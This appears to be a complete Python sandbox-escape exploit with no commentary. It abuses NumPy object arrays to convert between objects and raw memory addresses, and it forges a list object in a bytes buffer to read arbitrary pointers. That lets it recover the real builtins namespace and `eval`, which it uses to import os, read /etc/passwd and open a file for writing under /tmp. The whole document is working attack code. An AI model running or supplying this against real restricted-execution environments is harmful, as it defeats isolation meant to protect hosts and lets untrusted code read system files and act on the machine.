import numpy as np
def addr(x):
    a = np.empty(1, "O")
    a[0] = x
    return int(np.ndarray((1,), np.int64, a)[0])
def at(p):
    m = np.zeros(1, np.int64)
    m[0] = p
    return np.ndarray((1,), "O", m)[0]
def word(n):
    return n.to_bytes(8, "little")
keep = []
def deref(p):
    # a forged list object inside the bytes of a bytes object: its one item is the pointer at p
    fake = word(1000000) + word(addr(list)) + word(1) + word(p) + word(1)
    keep.append(fake)
    return at(addr(fake) + 32)[0]
builtins = deref(addr(len) + 24)
space = deref(addr(builtins) + 16)
run = space["eval"]
print(run("(__import__('os').getpid(), open('/etc/passwd').read(), [f.fileno() for f in [open('/tmp/o2','w')]])", {"__builtins__": space}))
